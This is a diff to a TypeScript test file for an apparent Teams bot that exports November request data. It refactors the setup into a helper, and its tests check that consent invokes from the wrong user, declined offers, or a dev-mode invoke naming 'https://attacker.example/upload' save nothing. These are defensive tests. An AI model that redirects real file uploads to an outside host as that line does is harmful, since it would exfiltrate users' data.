@@ -67,6 +67,15 @@ function fileOffer(person: Person, after: number) {
   return offers[offers.length - 1];
 }
 
+/** Dana has a request; Leo asks for November's export and gets the file offer: its accept context. */
+async function leoAsksForNovember(): Promise<{ leo: Person; context: unknown }> {
+  await danaAsksForNursing(h);
+  const leo = h.as('leo');
+  const before = h.connector.lastSeq();
+  await leo.say('export Dragon requests for November 2026');
+  return { leo, context: fileOffer(leo, before).content.acceptContext };
+}
+
 /** The file consent invoke Teams sends when the card's Allow (or Decline) is pressed. */
 async function consent(person: Person, action: 'accept' | 'decline', context: unknown, uploadUrl: string) {
   return h.post(
@@ -226,11 +235,7 @@ describe('export Dragon requests for November', () => {
   });
 
   test('an offer accepted by someone else, or declined, saves nothing', async () => {
-    await danaAsksForNursing(h);
-    const leo = h.as('leo');
-    const before = h.connector.lastSeq();
-    await leo.say('export Dragon requests for November 2026');
-    const context = fileOffer(leo, before).content.acceptContext;
+    const { leo, context } = await leoAsksForNovember();
 
     // Dana sends Leo's accept context with an upload URL of her own.
     const dana = h.as('dana');
@@ -246,22 +251,14 @@ describe('export Dragon requests for November', () => {
   });
 
   test('in dev mode the file goes only to this machine, whatever the invoke says', async () => {
-    await danaAsksForNursing(h);
-    const leo = h.as('leo');
-    const before = h.connector.lastSeq();
-    await leo.say('export Dragon requests for November 2026');
-    const context = fileOffer(leo, before).content.acceptContext;
+    const { leo, context } = await leoAsksForNovember();
     const after = h.connector.lastSeq();
     await consent(leo, 'accept', context, 'https://attacker.example/upload');
     expect(leo.texts(after).join('\n')).toMatch(/nothing was saved/);
   });
 
   test('an upload URL that refuses the file is reported in chat, and nothing is recorded as exported', async () => {
-    await danaAsksForNursing(h);
-    const leo = h.as('leo');
-    const before = h.connector.lastSeq();
-    await leo.say('export Dragon requests for November 2026');
-    const context = fileOffer(leo, before).content.acceptContext;
+    const { leo, context } = await leoAsksForNovember();
     const after = h.connector.lastSeq();
     // A path the connector does not serve: 404, as an expired upload session answers.
     await consent(leo, 'accept', context, `${h.connector.url}expired-session/x.csv`);
